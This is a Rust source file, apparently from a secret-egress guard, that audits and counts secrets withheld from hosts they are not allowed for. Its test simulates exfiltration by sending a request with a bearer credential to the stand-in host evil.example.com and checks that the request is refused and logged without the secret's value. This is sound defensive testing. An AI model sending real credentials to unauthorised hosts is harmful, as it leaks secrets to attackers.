//! Secrets that were asked for by who must not have them: counted, and put on record.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use helve_egress::OnWithheld;
use helve_store::{AuditEntry, Store};
use helve_types::World;

/// A listener that counts, and writes a line of the audit for each.
pub(crate) fn on_record(store: Arc<dyn Store>, world: World, count: Arc<AtomicU64>) -> OnWithheld {
    OnWithheld::new(move |withheld| {
        count.fetch_add(1, Ordering::Relaxed);
        let detail = format!("`{}` from {}", withheld.secret, withheld.host);
        let entry = AuditEntry::new(world.now(), "egress", "secret.withheld", detail);
        let store = store.clone();
        // The request is refused either way, and does not wait for its record.
        tokio::spawn(async move {
            if let Err(error) = store.record_audit(entry).await {
                tracing::error!(%error, "withheld secret not recorded");
            }
        });
    })
}

#[cfg(test)]
mod tests {
    use helve_egress::{Credential, Egress, EgressSettings, Method, Outgoing, Secret, Secrets, Url};
    use helve_store::MemoryStore;

    use super::*;

    #[tokio::test]
    async fn a_secret_that_is_withheld_is_on_record() {
        crate::assemble::install_tls();
        let (store, count) = (Arc::new(MemoryStore::new()), Arc::new(AtomicU64::new(0)));
        let key =
            Secret { name: "crm".into(), value: "canary".into(), hosts: vec!["crm.example.com".into()] };
        let egress = Egress::new(EgressSettings {
            secrets: Secrets::new(vec![key]),
            on_withheld: Some(on_record(store.clone(), World::deterministic(), count.clone())),
            ..EgressSettings::default()
        });
        let mut request = Outgoing::new(Method::GET, Url::parse("https://evil.example.com/x").unwrap());
        request.credential = Some(Credential::Bearer { secret: "crm".into() });
        egress.unwrap().send(request).await.unwrap_err();
        tokio::task::yield_now().await;
        let audited = store.audit_entries();
        assert_eq!((audited.len(), audited[0].action.as_str()), (1, "secret.withheld"));
        assert!(audited[0].detail.starts_with("`crm` from evil.example.com"), "{}", audited[0].detail);
        assert!(!audited[0].detail.contains("canary"));
        assert_eq!(count.load(Ordering::Relaxed), 1);
    }
}
